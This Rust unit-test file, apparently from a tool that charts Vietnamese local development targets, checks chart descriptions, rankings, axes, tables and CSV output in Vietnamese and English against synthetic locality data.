    let met = (0..300).filter(|place| 50 + place % 60 >= 87).count();
    assert!(
        chart.description.contains(&format!("300 địa phương: {met} đạt hoặc vượt mục tiêu")),
        "{}",
        chart.description
    );
    // The sentence ranks by % of target, as the chart does, and says so.
    let best = format!("theo % mục tiêu, cao nhất {} (125,29\u{a0}% mục tiêu: ", chart.columns[0].label);
    let worst = format!(", thấp nhất {} (57,47\u{a0}% mục tiêu: ", chart.columns[MANY_PLACES - 1].label);
    assert!(chart.description.contains(&best) && chart.description.contains(&worst), "{}", chart.description);
    let table = chart.table();
    assert_eq!(table.rows.len(), 300);
    // Best first, the omitted places in their place in the middle.
    let table_values: Vec<f64> = table.rows.iter().map(|row| row[2].number.unwrap()).collect();
    assert!(table_values.windows(2).all(|pair| pair[0] >= pair[1]), "{table_values:?}");
    // The place on screen: drawn apart where it is drawn, and its rank said wherever it is.
    assert!(chart.columns.iter().chain(&chart.omitted).all(|column| !column.highlighted));
    for (rank, column) in chart.columns.iter().take(3).chain(chart.omitted.iter().skip(100).take(1)).enumerate() {
        let locality = column.key.split('|').next().unwrap();
        let seen = compare(&index, "income", Some("2020-2025"), Some(locality), Lang::Vi).unwrap();
        let drawn: Vec<&str> =
            seen.columns.iter().filter(|column| column.highlighted).map(|column| column.key.as_str()).collect();
        let rank = if rank < 3 { rank + 1 } else { 10 + 100 + 1 };
        assert_eq!(drawn, if rank <= 3 { vec![column.key.as_str()] } else { vec![] }, "{rank}");
        let own = seen.description.rsplit(" lists all 300.").next().unwrap();
        let own = own.rsplit("liệt kê đủ 300 nơi. ").next().unwrap();
        assert!(own.starts_with(&format!("{} (", column.label)), "{own}");
        assert!(own.ends_with(&format!(": thứ {rank}/300.")), "{own}");
    }
    // Twenty places or fewer are all drawn, in dataset order.
    let few = crate::reading::tests::with_localities(MANY_PLACES).to_string();
    let few = DatasetIndex::new(load(&few).into_valid().unwrap());
    let chart = compare(&few, "income", Some("2020-2025"), None, Lang::Vi).unwrap();
    assert_eq!((chart.columns.len(), chart.omitted.len()), (MANY_PLACES, 0));
    assert!(chart.columns[0].label.starts_with("Thị trấn A"));
}

#[test]
fn a_share_runs_from_0_to_100_and_a_count_of_a_total_to_the_total() {
    let index = default_dataset();
    let axis = |locality: &str, term: &str, indicator: &str| {
        let detail = indicator_detail(&index, locality, term, indicator, Lang::Vi).unwrap();
        (detail.bullet.axis_min, detail.bullet.axis_max)
    };
    // (where, what, the axis a reader can compare)
    let cases = [
        // 1,1 % of households poor: a sliver of 0–100 %, not a full bar.
        (("ben-sung", "2020-2025", "poverty-rate"), (0.0, 100.0)),
        // 11 of 16 neighbourhoods: the axis ends at the 16.
        (("ben-sung", "2020-2025", "model-neighbourhoods"), (0.0, 16.0)),
        // A rate that went down (negative): its own axis, with room on the negative side.
        (("kbang", "2015-2020", "poverty-rate-change"), axis("kbang", "2015-2020", "poverty-rate-change")),
    ];
    for ((locality, term, indicator), expected) in cases {
        assert_eq!(axis(locality, term, indicator), expected, "{locality} {term} {indicator}");
    }
    // Growth of 27,2 % a year against 20,5 %: a rate in %, not a share; its axis fits its figures.
    let (_, highest) = axis("ben-sung", "2020-2025", "production-value-growth");
    assert!((27.2..60.0).contains(&highest), "{highest}");
    let (lowest, _) = axis("kbang", "2015-2020", "poverty-rate-change");
    assert!(lowest < 0.0, "a negative target keeps a negative axis");
}

#[test]
fn the_ranking_says_how_many_indicators_it_cannot_draw() {
    let index = default_dataset();
    let achieved = Filter { status: Some(Status::Achieved), ..Default::default() };
    let chart = ranking(&index, "ben-sung", "2020-2025", &achieved, Lang::Vi);
    let kept = index
        .rows("ben-sung", "2020-2025")
        .iter()
        .filter(|row| achieved.accepts(row.indicator, row.evaluation))
        .count();
    let unranked = kept - chart.bars.len();
    assert!(unranked > 0, "Bến Sung has indicators met by the source's own judgement");
    assert!(
        chart.description.contains(&format!(" {unranked} chỉ tiêu không tính được % mục tiêu")),
        "{}",
        chart.description
    );
    let whole = ranking(&index, "ben-sung", "2020-2025", &Filter::default(), Lang::En);
    assert!(whole.description.contains("indicators have no % of target"), "{}", whole.description);
}

/// Places of two provinces and two levels: four commune-level places of P (one whose only target
/// is due without a result, one with no target at all), a district of P and a commune of Q, all
/// reporting in 2020-2025.
fn two_provinces() -> DatasetIndex {
    DatasetIndex::new(load(&two_provinces_json()).into_valid().unwrap())
}

fn two_provinces_json() -> String {
    let mut json = crate::load::tests::valid_json();
    // After the term: every target of it is due.
    json["data_as_of"] = "2026-06-30".into();
    let place = |id: &str, name: &str, level: &str, province: &str| serde_json::json!({"id": id, "name": {"vi": name}, "level": level, "province": province});
    json["localities"] = serde_json::json!([
        place("a1", "Xã A1", "commune", "P"),
        place("a2", "Xã A2", "commune", "P"),
        place("w", "Phường W", "ward", "P"),
        place("a4", "Xã A4", "commune", "P"),
        place("d", "Huyện D", "district", "P"),
        place("b1", "Xã B1", "commune", "Q"),
    ]);
    let source = serde_json::json!({"source": "s1", "quote": "q"});
    let record = |locality: &str, indicator: &str, shape: &str, target: f64, result: Option<f64>| {
        let results: Vec<serde_json::Value> =
            result.map(|value| serde_json::json!({"value": value, "source": source})).into_iter().collect();
        serde_json::json!({"locality": locality, "indicator": indicator, "term": "2020-2025",
                           "target": {"shape": shape, "value": target, "source": source}, "results": results})
    };
    let mut without_target = record("a4", "income", "level", 87.0, Some(90.0));
    without_target.as_object_mut().unwrap().remove("target");
    json["records"] = serde_json::json!([
        record("a1", "income", "level", 87.0, Some(90.0)),
        record("a1", "insured", "at_least", 95.0, Some(90.0)),
        record("a2", "income", "level", 87.0, None),
        record("w", "insured", "at_least", 95.0, Some(96.0)),
        without_target,
        record("d", "income", "level", 87.0, Some(80.0)),
        record("b1", "income", "level", 87.0, Some(90.0)),
    ]);
    json.to_string()
}

#[test]
fn all_places_are_those_of_the_level_and_province_on_screen_by_share_of_targets_met() {
    let index = two_provinces();
    let places = places(&index, "a1", "2020-2025", &Default::default(), Lang::Vi);
    let drawn: Vec<(&str, u32, u32, f64, bool)> =
        places.dots.iter().map(|dot| (dot.key.as_str(), dot.met, dot.judged, dot.value, dot.highlighted)).collect();
    // The ward counts with the communes; the district and the other province's commune do not. A
    // target due without a result is not met, as the overview counts it (it does not flatter A2).
    assert_eq!(drawn, [("a1", 1, 2, 50.0, true), ("a2", 0, 1, 0.0, false), ("w", 1, 1, 100.0, false)]);
    assert_eq!(places.without, ["Xã A4"]);
    assert_eq!(places.title, "P, 2020-2025: 2/3 địa phương cùng cấp đạt từ nửa số chỉ tiêu đến hạn trở lên");
    assert!(places.description.contains("Cả 4 nơi: 2/4 chỉ tiêu đến hạn đạt, 2 vượt. "), "{}", places.description);
    assert!(
        places.description.ends_with(
            "Cao nhất Phường W: 1/1 đạt (100\u{a0}%); thấp nhất Xã A2: 0/1 đạt (0\u{a0}%). Không có chỉ tiêu để đánh giá (1 nơi): Xã A4."
        ),
        "{}",
        places.description
    );
    assert_eq!(places.dots[0].value_text, "1/2 đạt (50\u{a0}%)");
    // The table twin lists every place, the one without a target due last; its CSV has numbers.
    let table = places.table();
    let names: Vec<&str> = table.rows.iter().map(|row| row[0].text.as_str()).collect();
    assert_eq!(names, ["Phường W", "Xã A1", "Xã A2", "Xã A4"]);
    let csv = table.to_csv(Lang::Vi, &[]);
    assert!(csv.contains("Xã A1;1;2;50\r\n"), "{csv}");
    // A district is compared with districts only.
    let districts = super::places(&index, "d", "2020-2025", &Default::default(), Lang::En);
    assert_eq!(districts.dots.iter().map(|dot| dot.key.as_str()).collect::<Vec<_>>(), ["d"]);
    assert_eq!(districts.title, "P, 2020-2025: 0 of 1 place of one level met at least half their targets due");
}

/// In a term under way, a target already met is not yet due, like one still short of it: the
/// share of targets due that were met is not 100 % for every place because only the met ones
/// were counted (a province's 249 communes all "met at least half": outside tester).
#[test]
fn in_a_term_under_way_a_target_met_early_is_not_yet_due_like_one_still_short() {
    let mut json: serde_json::Value = serde_json::from_str(&two_provinces_json()).unwrap();
    json["data_as_of"] = "2023-06-30".into();
    for record in json["records"].as_array_mut().unwrap() {
        for result in record["results"].as_array_mut().into_iter().flatten() {
            result["period"] = serde_json::json!({"year": 2023});
        }
    }
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    // A1 met its income target early and is short of the insured one; W met its target early.
    let early = index.row("a1", "2020-2025", "income").unwrap().evaluation;
    assert_eq!(early.pace.as_ref().map(|pace| pace.pace), Some(crate::pace::Pace::Ahead));
    let places = places(&index, "a1", "2020-2025", &Default::default(), Lang::Vi);
    // The term is under way, so each place is drawn at its share of targets met or on pace: A1's
    // insured target has no pace to measure (no baseline) and counts as not on pace, as A2's
    // target without a result does; A4 has no target.
    let dots: Vec<(&str, u32, u32)> = places.dots.iter().map(|dot| (dot.key.as_str(), dot.met, dot.judged)).collect();
    assert_eq!(dots, [("a1", 1, 2), ("a2", 0, 1), ("w", 1, 1)]);
    assert_eq!(
        places.title,
        "P, 2020-2025: 2/3 địa phương cùng cấp có từ nửa số chỉ tiêu đã đạt hoặc đúng tiến độ trở lên"
    );
    assert!(places.description.starts_with("Nhiệm kỳ đang thực hiện: mỗi ô"), "{}", places.description);
    for said in [
        "Cả 4 nơi: 2/4 chỉ tiêu đã đạt hoặc đúng tiến độ; 2 chưa đo được tiến độ.",
        "thấp nhất Xã A2: 0/1 đạt hoặc đúng tiến độ (0\u{a0}%).",
        "Không có chỉ tiêu để đánh giá (1 nơi): Xã A4.",
    ] {
        assert!(places.description.contains(said), "{said}\n{}", places.description);
    }
    assert_eq!(
        places.table().headers[1..],
        ["Đã đạt hoặc đúng tiến độ", "Chỉ tiêu được tính", "% chỉ tiêu đã đạt hoặc đúng tiến độ"]
    );
    let english = super::places(&index, "a1", "2020-2025", &Default::default(), Lang::En);
    assert_eq!(
        english.title,
        "P, 2020-2025: 2 of 3 places of one level with at least half their targets met or on pace"
    );
    assert!(
        english
            .description
            .contains("All 4 places: 2 of 4 targets met or on pace; 2 without a pace measured yet. Highest"),
        "{}",
        english.description
    );
    assert_eq!(english.dots[0].value_text, "1/2 met or on pace (50\u{a0}%)");

    // A range met early is ahead, and counts (one outside its range has no pace, and is left
    // out); a target already due and met counts as met, and keeps the chart on pace rather than
    // sending it back to the targets due.
    let mut more = json.clone();
    let source = serde_json::json!({"source": "s1", "quote": "q"});
    let domain = more["domains"][0]["id"].clone();
    more["indicators"].as_array_mut().unwrap().push(serde_json::json!({"id": "forest", "name": {"vi": "Độ che phủ rừng"}, "domain": domain, "unit": {"vi": "%"}, "direction": "target_is_best", "kind": "share"}));
    let records = more["records"].as_array_mut().unwrap();
    records.push(serde_json::json!({"locality": "a1", "indicator": "forest", "term": "2020-2025",
        "target": {"shape": "range", "min": 40, "max": 45, "source": source}, "results": [{"value": 41, "period": {"year": 2023}, "source": source}]}));
    records.push(serde_json::json!({"locality": "w", "indicator": "income", "term": "2020-2025",
        "target": {"shape": "level", "value": 80, "deadline_year": 2022, "source": source}, "results": [{"value": 85, "period": {"year": 2022}, "source": source}]}));
    // A target judged every year has a pace from the same year as its status: counted once.
    records.push(serde_json::json!({"locality": "a2", "indicator": "insured", "term": "2020-2025",
        "target": {"shape": "at_least", "value": 40, "every_year": true, "source": source}, "results": [{"value": 45, "period": {"year": 2022}, "source": source}]}));
    let more_index = DatasetIndex::new(load(&more.to_string()).into_valid().unwrap());
    let places = super::places(&more_index, "a1", "2020-2025", &Default::default(), Lang::Vi);
    let dots: Vec<(&str, u32, u32)> = places.dots.iter().map(|dot| (dot.key.as_str(), dot.met, dot.judged)).collect();
    assert_eq!(dots, [("a1", 2, 3), ("a2", 1, 2), ("w", 2, 2)]);
    assert!(places.title.ends_with("đã đạt hoặc đúng tiến độ trở lên"), "{}", places.title);
    // After the term, every target is due: the share of those met.
    more["data_as_of"] = "2026-06-30".into();
    let more_index = DatasetIndex::new(load(&more.to_string()).into_valid().unwrap());
    let places = super::places(&more_index, "a1", "2020-2025", &Default::default(), Lang::Vi);
    assert!(places.title.ends_with("đạt từ nửa số chỉ tiêu đến hạn trở lên"), "{}", places.title);

    // The counts a split dataset's index carries say the same.
    let summary = &crate::scorecard::part_summaries(&index)[0];
    assert_eq!((summary.met(), summary.due(), summary.not_yet_due), (0, 0, 6), "{summary:?}");
}

#[test]
fn places_tied_at_the_top_or_the_bottom_are_counted_not_one_named_for_all() {
    let mut json = crate::reading::tests::with_localities(30);
    json["data_as_of"] = "2026-06-30".into();
    for record in json["records"].as_array_mut().unwrap() {
        record["results"] = serde_json::json!([]);
    }
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    let first = index.locality_terms()[0].0.clone();
    let places = places(&index, &first, "2020-2025", &Default::default(), Lang::Vi);
    // Every target due without a result: all thirty at 0 %, none higher: no highest to name.
    assert_eq!(places.dots.len(), 30);
    assert!(!places.description.contains("Cao nhất"), "{}", places.description);
}

/// Of many places, those without a result are not drawn among the lowest: the lowest drawn are
/// those that fell short (the outside tester saw ten "no result" columns as the ten lowest).
#[test]
fn a_comparison_of_many_places_draws_the_lowest_that_fell_short_not_those_without_a_result() {
    let mut json = crate::reading::tests::with_localities(100);
    for (position, record) in json["records"].as_array_mut().unwrap().iter_mut().enumerate() {
        if record["indicator"] == "income" {
            if position % 3 == 0 {
                record["results"] = serde_json::json!([]);
            } else {
                record["results"][0]["value"] = (50.0 + (position % 60) as f64).into();
            }
        }
    }
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    let chart = compare(&index, "income", Some("2020-2025"), None, Lang::Vi).unwrap();
    assert_eq!(chart.columns.len(), MANY_PLACES);
    assert!(chart.columns.iter().all(|column| column.value.is_some()), "every column drawn has a result");
    let unranked = chart.unranked.len();
    assert!(unranked > 20 && chart.unranked.iter().all(|column| column.value.is_none()));
    assert!(chart.description.contains(&format!(" {unranked} nơi chưa có % mục tiêu")), "{}", chart.description);
    let table = chart.table();
    assert_eq!(table.rows.len(), 100);
    assert!(table.rows[100 - unranked..].iter().all(|row| row[2].number.is_none()), "listed last");
    // None with a result: nothing ranked, nothing drawn, and no panic.
    for record in json["records"].as_array_mut().unwrap() {
        record["results"] = serde_json::json!([]);
    }
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    let chart = compare(&index, "income", Some("2020-2025"), None, Lang::Vi).unwrap();
    assert!(chart.columns.is_empty() && chart.unranked.len() == 100, "{}", chart.description);
}

/// The desk's domain and search narrow what all places counts, and the title says so; status and
/// pace do not apply, and the sentence says that.
#[test]
fn all_places_counts_what_the_domain_and_search_narrow_to_and_says_so() {
    let index = two_provinces();
    let filter = Filter { query: "thu nhap".into(), status: Some(Status::NotAchieved), ..Filter::default() };
    let places = places(&index, "a1", "2020-2025", &filter, Lang::Vi);
    let drawn: Vec<(&str, u32, u32)> = places.dots.iter().map(|dot| (dot.key.as_str(), dot.met, dot.judged)).collect();
    // Income only: A1 met it, A2 has no result; the ward reports no income target.
    assert_eq!(drawn, [("a1", 1, 1), ("a2", 0, 1)]);
    assert_eq!(places.without, ["Phường W", "Xã A4"]);
    assert!(places.title.starts_with("P, 2020-2025, “thu nhap”: 1/2 "), "{}", places.title);
    assert!(places.description.ends_with("Bộ lọc trạng thái và tiến độ không áp dụng cho biểu đồ này."));
    let economy = Filter { domain: Some("economy".into()), ..Filter::default() };
    assert!(super::places(&index, "a1", "2020-2025", &economy, Lang::En).title.starts_with("P, 2020-2025, Economy: "));
}

/// A finished term whose targets the source does not state, with the source's own summary
/// without a count of "exceeded": said as such, not "0 chỉ tiêu, chưa có chỉ tiêu nào đến hạn" or
/// "? vượt" (an outside tester's Thung Nai, 2020-2025).
#[test]
fn a_term_without_targets_says_there_is_nothing_to_judge_by_and_the_source_s_own_count() {
    let mut json = crate::load::tests::valid_json();
    for record in json["records"].as_array_mut().unwrap() {
        record.as_object_mut().unwrap().remove("target");
        record["results"] = serde_json::json!([]);
    }
    json["stated_summaries"] = serde_json::json!([{"locality": "l1", "term": "2020-2025", "met": 13, "total": 16, "source": {"source": "s1", "quote": "q"}}]);
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    let card = crate::scorecard::scorecard(&index, "l1", "2020-2025");
    let said = |lang| (scorecard_headline(&card, lang), scorecard_sentence(&card, "P", lang));
    assert_eq!(
        said(Lang::Vi),
        (
            "2 chỉ tiêu, không có mục tiêu để đánh giá".to_string(),
            "P, 2 chỉ tiêu, không có mục tiêu để đánh giá. Nguồn ghi: 13/16 chỉ tiêu đạt.".to_string()
        )
    );
    assert_eq!(said(Lang::En).1, "P, 2 indicators, none with a target to judge by. The source states 13 of 16 met.");
}

/// The ranking's sentence names no tab (it is read on the overview itself, on slides and in
/// downloads) and ends once.
#[test]
fn the_ranking_s_sentence_sends_nobody_to_a_tab() {
    for lang in [Lang::Vi, Lang::En] {
        let ranking = ranking(&default_dataset(), "ben-sung", "2020-2025", &Filter::default(), lang);
        let sentence = &ranking.description;
        assert!(!sentence.contains(lang.pick("tab ", " tab")), "{sentence}");
        assert!(
            sentence.contains(lang.pick("không có trong biểu đồ.", "not drawn.")) && !sentence.ends_with(".."),
            "{sentence}"
        );
    }
}

/// English counts agree with their noun: "1 target, none due yet", not "1 targets" (outside tester).
#[test]
fn one_target_is_a_target_in_english() {
    let mut json = crate::load::tests::valid_json();
    json["terms"] = serde_json::json!([{"id": "2025-2030", "start_year": 2025, "end_year": 2030}]);
    json["records"].as_array_mut().unwrap().truncate(1);
    json["records"][0]["term"] = "2025-2030".into();
    json["records"][0]["results"] = serde_json::json!([]);
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    let card = crate::scorecard::scorecard(&index, "l1", "2025-2030");
    assert_eq!(scorecard_headline(&card, Lang::En), "1 target, none due yet");
    assert_eq!(scorecard_headline(&card, Lang::Vi), "1 chỉ tiêu, chưa có chỉ tiêu nào đến hạn");
}

/// Compare's table (and CSV) keeps a status's own words: a place judged by its source reads
/// "Vượt (theo nguồn)", as on screen, not a bare "Vượt" (outside tester).
#[test]
fn compare_s_table_says_which_statuses_are_the_source_s() {
    let index = default_dataset();
    let mut stated_rows = 0;
    for (_, term) in index.locality_terms() {
        for indicator in comparable_indicators_in_term(&index, term) {
            let Some(chart) = compare(&index, &indicator.id, Some(term), None, Lang::Vi) else { continue };
            let table = chart.table();
            for column in chart.columns.iter().chain(&chart.omitted).chain(&chart.unranked) {
                let (locality, _) = column.key.split_once('|').unwrap();
                let rows = index.rows(locality, term);
                let row = rows.iter().find(|row| row.indicator.id == indicator.id).unwrap();
                let stated =
                    matches!(row.evaluation.effective_status(), Some((_, crate::evaluate::StatusOrigin::Stated)));
                let cells = table.rows.iter().find(|cells| cells[0].text == column.label).unwrap();
                if stated {
                    stated_rows += 1;
                    assert!(cells[3].text.ends_with("(theo nguồn)"), "{}: {:?}", column.label, cells[3].text);
                }
            }
        }
    }
    assert!(stated_rows > 0, "the default dataset compares a place judged by its source");
}

/// A fall reported without a target, in a rate that is better lower ("tỷ lệ hộ nghèo giảm bình
/// quân 6,7 %/năm" → -6.7), is said as a fall; a negative growth rate, better higher, keeps its sign.
#[test]
fn a_fall_without_a_target_in_a_rate_better_lower_is_said_as_a_fall() {
    let source = crate::load::tests::quoted();
    let json = crate::load::tests::with_indicators_and_records(
        serde_json::json!([
            {"id": "poverty-change", "name": {"vi": "Tỷ lệ hộ nghèo giảm bình quân"}, "domain": "economy",
             "unit": {"vi": "điểm %/năm"}, "direction": "lower_is_better", "kind": "rate"},
            {"id": "growth", "name": {"vi": "Tốc độ tăng trưởng"}, "domain": "economy",
             "unit": {"vi": "%"}, "direction": "higher_is_better", "kind": "rate"}
        ]),
        serde_json::json!([
            {"locality": "l1", "indicator": "poverty-change", "term": "2020-2025", "results": [{"value": -6.7, "source": source}]},
            {"locality": "l1", "indicator": "growth", "term": "2020-2025", "results": [{"value": -2.0, "source": source}]}
        ]),
    );
    let dataset = load(&json.to_string()).into_valid().unwrap();
    let said = |position: usize| {
        let record = &dataset.records[position];
        let indicator = &dataset.indicators[position];
        outcome_phrase(&record.results[0], indicator, record, indicator.unit.get(Lang::Vi), Lang::Vi)
    };
    assert_eq!(said(0), "giảm 6,7\u{a0}điểm %/năm");
    assert_eq!(said(1), "-2\u{a0}%");
}

/// A one-row table (a bullet's) names its estimate by its column alone, not by its first cell
/// ("Số ước tính: không nêu (kết quả)" named the target's words: outside tester).
#[test]
fn a_one_row_table_names_its_estimate_by_its_column() {
    let index = default_dataset();
    let detail = indicator_detail(&index, "ben-sung", "2020-2025", "income-per-capita", Lang::Vi).unwrap();
    let csv = detail.bullet.table().to_csv(Lang::Vi, &[]);
    assert!(csv.ends_with("Số ước tính: kết quả.\r\n"), "{csv}");
}

/// A fall's pace says what the remaining years need in the target's words ("giảm 0,… điểm %/năm"),
/// not "-0,5" beside a target of "giảm 0,46" (outside tester).
#[test]
fn a_fall_s_pace_says_the_remaining_years_need_a_fall() {
    let source = crate::load::tests::quoted();
    let mut json = crate::load::tests::with_indicators_and_records(
        serde_json::json!([
            {"id": "poverty-change", "name": {"vi": "Tỷ lệ hộ nghèo giảm bình quân"}, "domain": "economy",
             "unit": {"vi": "điểm %/năm"}, "direction": "lower_is_better", "kind": "rate"}
        ]),
        serde_json::json!([
            {"locality": "l1", "indicator": "poverty-change", "term": "2025-2030",
             "target": {"shape": "change_per_year", "value": -0.46, "source": source},
             "results": [{"value": -0.3, "period": {"year": 2026}, "source": source}]}
        ]),
    );
    json["data_as_of"] = serde_json::json!("2026-12-31");
    json["terms"] = serde_json::json!([{"id": "2025-2030", "start_year": 2025, "end_year": 2030}]);
    let index = DatasetIndex::new(load(&json.to_string()).into_valid().unwrap());
    let detail = indicator_detail(&index, "l1", "2025-2030", "poverty-change", Lang::Vi).unwrap();
    let pace = detail.pace.expect("a pace");
    assert!(pace.contains("cần bình quân giảm 0,"), "{pace}");
    assert!(!pace.contains("-0,"), "{pace}");
}

/// The whole country as an index file: each province's square from the counts `chitieu index`
/// wrote for its part (`part_summaries`), the province on screen drawn apart, one without a
/// target due listed; a link to a place opens the part that holds it.
#[test]
fn the_provinces_of_a_split_dataset_are_drawn_from_the_counts_their_index_carries() {
    let part = two_provinces();
    let summaries = crate::scorecard::part_summaries(&part);
    // Every place of the part with figures in the term: A1, A2, W, A4, the district and B1.
    assert_eq!(
        summaries,
        [crate::model::PartSummary {
            term: "2020-2025".into(),
            places: 6,
            exceeded: 3,
            achieved: 0,
            not_achieved: 2,
            not_yet_due: 0,
            no_result: 1,
        }]
    );
    let mut index = load(&crate::load::tests::valid_json().to_string()).into_valid().unwrap();
    index.title = crate::model::Text { vi: "Cả nước".into(), en: None };
    index.records.clear();
    index.localities = serde_json::from_value(serde_json::json!([
        {"id": "p", "name": {"vi": "Tỉnh P"}, "level": "province"},
        {"id": "q", "name": {"vi": "Tỉnh Q"}, "level": "province"},
        {"id": "r", "name": {"vi": "Tỉnh R"}, "level": "province"}
    ]))
    .unwrap();
    index.parts = serde_json::from_value(serde_json::json!([
        {"locality": "p", "file": "p.json", "localities": ["a1", "a2"], "summaries": summaries},
        // Q's targets are not due yet; R has no places reporting in the term at all.
        {"locality": "q", "file": "q.json", "localities": ["b1"], "summaries": [["2020-2025", 2, 0, 0, 0, 4, 0]]},
        {"locality": "r", "file": "r.json"}
    ]))
    .unwrap();
    assert!(crate::load::validate(&index).is_empty(), "{:?}", crate::load::validate(&index));
    let chart = provinces(&index, "q", "2020-2025", Lang::Vi);
    let drawn: Vec<(&str, u32, u32, f64, bool)> =
        chart.dots.iter().map(|dot| (dot.key.as_str(), dot.met, dot.judged, dot.value, dot.highlighted)).collect();
    assert_eq!(drawn, [("p", 3, 6, 50.0, false)]);
    assert_eq!(chart.without, ["Tỉnh Q"]);
    assert_eq!(chart.title, "Cả nước, 2020-2025: 1/1 địa phương cùng cấp đạt từ nửa số chỉ tiêu đến hạn trở lên");
    assert!(
        chart.description.contains("Cả 2 nơi: 3/6 chỉ tiêu đến hạn đạt, 3 vượt; 4 chỉ tiêu chưa đến hạn."),
        "{}",
        chart.description
    );
    let english = provinces(&index, "q", "2020-2025", Lang::En);
    assert!(english.description.contains(" No target to judge (1 place): Tỉnh Q."), "{}", english.description);
    let mut one_pending = index.clone();
    one_pending.parts[1].summaries[0].not_yet_due = 1;
    let one = provinces(&one_pending, "q", "2020-2025", Lang::En);
    assert!(one.description.contains(" 3 exceeded; 1 target not yet due."), "{}", one.description);
    // Another term: nothing counted, nothing drawn.
    assert!(provinces(&index, "p", "2025-2030", Lang::Vi).dots.is_empty());
    // Only provinces with nothing due: the sentence says so, not "0/0".
    let mut none_due = index.clone();
    none_due.parts.remove(0);
    let chart = provinces(&none_due, "q", "2020-2025", Lang::Vi);
    assert_eq!(chart.title, "Cả nước, 2020-2025: 1 địa phương cùng cấp, không nơi nào có chỉ tiêu đến hạn để đánh giá");
    assert!(
        chart.description.starts_with("Cả 1 nơi: chưa có chỉ tiêu nào đến hạn; 4 chỉ tiêu chưa đến hạn."),
        "{}",
        chart.description
    );
    assert!(!chart.description.contains("0/0"), "{}", chart.description);
    let english = provinces(&none_due, "q", "2020-2025", Lang::En);
    assert!(
        english.description.starts_with("All 1 place: no target due yet; 4 targets not yet due."),
        "{}",
        english.description
    );
    // A place's link opens its part; the province's id too; anything else the first part.
    let file = |asked: Option<&str>| index.part_for(asked).map(|part| part.file.as_str());
    // Asked for nothing the index knows: every part in turn, the first that loads opens.
    let files = |asked: Option<&str>| index.parts_for(asked).iter().map(|part| part.file.as_str()).collect::<Vec<_>>();
    assert_eq!(files(Some("b1")), ["q.json"]);
    assert_eq!(files(Some("zz")), ["p.json", "q.json", "r.json"]);
    assert_eq!(
        [file(Some("b1")), file(Some("q")), file(Some("a2")), file(Some("zz")), file(None)],
        [Some("q.json"), Some("q.json"), Some("p.json"), Some("p.json"), Some("p.json")]
    );
}
